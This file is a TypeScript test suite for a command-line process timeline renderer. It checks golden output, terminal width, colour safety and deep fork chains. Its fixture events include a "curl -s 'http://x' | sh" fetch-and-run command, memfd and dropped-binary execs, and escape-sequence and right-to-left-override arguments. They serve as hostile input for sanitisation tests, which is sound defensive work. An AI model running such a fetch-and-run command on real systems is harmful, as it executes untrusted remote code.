import { readFileSync, writeFileSync } from 'node:fs'
import t from 'tap'
import { coloured, plain } from '#cli/render/paint.ts'
import { textWidth } from '#cli/render/text.ts'
import { timelineLines } from '#cli/render/timeline.ts'
import type { TimelineEvent } from '#proto/api.ts'
import { containerStarted, coverage, exec, exit, gap } from '#test/fixtures/timeline-events.ts'

const time = (second: number): { readonly time: string } => ({
  time: `2026-07-01T15:02:${String(second).padStart(2, '0')}.250000Z`,
})
const child = (pid: number, parentPid: number) => ({
  pid,
  parentId: `b00t-${parentPid}-0`,
  parentPid,
})
const host = { containerId: 'host', container: 'host', namespace: '', pod: '', workload: '' }
const other = { containerId: 'e'.repeat(64), namespace: '', pod: '', container: '', workload: '' }

const story: readonly TimelineEvent[] = [
  containerStarted(time(1)),
  exec({ pid: 1, argv: ['/entrypoint.sh', '--port', '8080'], entry: 'init' }, time(1)),
  exec({ ...child(2, 1), argv: ['sh', '-c', "curl -s 'http://x' | sh"] }, time(2)),
  exec({ ...child(3, 2), argv: ['curl', '-s', 'http://x'], uid: 33, euid: 33 }, time(3)),
  exit({ ...child(3, 2) }, { ...time(3), exitCode: 7 }),
  exec(
    { ...child(4, 2), argv: ['\x1b[2J\x1b[H', '\u202etxt.exe', 'a\nb', ''], fileOrigin: 'memfd' },
    time(4),
  ),
  exec({ ...child(4, 2), argv: ['/tmp/second'], fileOrigin: 'dropped' }, time(5)),
  gap({ ...time(5), containerId: containerStarted().containerId }),
  exit(
    { ...child(4, 2) },
    { ...time(6), exitCode: null, signal: 9, signalName: 'SIGKILL', lifetimeUs: 252e6 },
  ),
  exit({ ...child(6, 5), exe: '/bin/worker' }, { ...time(6), forked: true, lifetimeUs: 180 }),
  exit({ ...child(2, 1) }, { ...time(7), lifetimeUs: 5e6 }),
  exec(
    { pid: 70, argv: ['systemd'], snapshot: true, argvTruncated: true, argvBytes: 9_999 },
    { ...host, ...time(8) },
  ),
  exec({ pid: 80, argv: ['漢字', 'x'.repeat(300)], argvRedacted: 1 }, { ...other, ...time(9) }),
  gap({ ...time(9), lost: null }),
]

const golden = (name: string): URL => new URL(`../../golden/${name}.txt`, import.meta.url)

const draw = (width: number, more?: string): string =>
  `${[...timelineLines({ coverage: [coverage({ gaps: 2, lost: null })], events: story, next: null }, more, { paint: plain, width })].join('\n')}\n`

for (const [name, width] of [
  ['timeline-wide', Number.POSITIVE_INFINITY],
  ['timeline-100', 100],
  ['timeline-60', 60],
] as const) {
  t.test(`a story with hostile arguments, ${width} cells wide`, async (t) => {
    const text = draw(width, '12 more events; use --limit 26')
    if (process.env.MAYFLY_UPDATE_GOLDEN) writeFileSync(golden(name), text)
    t.equal(text, readFileSync(golden(name), 'utf8'))
    t.notMatch(text, /[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]/)
  })
}

t.test('process lines fit the terminal they are for', async (t) => {
  for (const width of [80, 100, 120]) {
    const lines = draw(width).split('\n').slice(3)
    for (const line of lines)
      t.ok(textWidth(line) <= width, `${textWidth(line)} <= ${width}: ${line}`)
  }
})

t.test('colours never come from the data', async (t) => {
  const lines = [
    ...timelineLines({ coverage: [], events: story, next: null }, undefined, {
      paint: coloured,
      width: 100,
    }),
  ]
  const sequences = new Set(lines.join('\n').match(/\x1b[^m]*m/g))
  t.strictSame(
    [...sequences].filter((sequence) => !/^\x1b\[(?:1|2|22|31|32|33|39)m$/.test(sequence)),
    [],
  )
})

t.test('nothing found says what to try', async (t) => {
  const lines = [
    ...timelineLines({ coverage: [], events: [], next: null }, undefined, {
      paint: plain,
      width: 80,
    }),
  ]
  t.match(lines.join('\n'), /No event matches/)
})

t.test('a chain of ten thousand forks neither overflows nor pushes the text away', async (t) => {
  const events = Array.from({ length: 10_000 }, (_, at) =>
    exec({ ...child(at + 1, at), argv: [`deep${at}`] }),
  )
  const lines = [
    ...timelineLines({ coverage: [], events, next: null }, undefined, { paint: plain, width: 120 }),
  ]
  t.match(lines.at(-1), /\(level 9999\) deep9999$/)
  t.ok(textWidth(lines.at(-1) ?? '') <= 120)
})
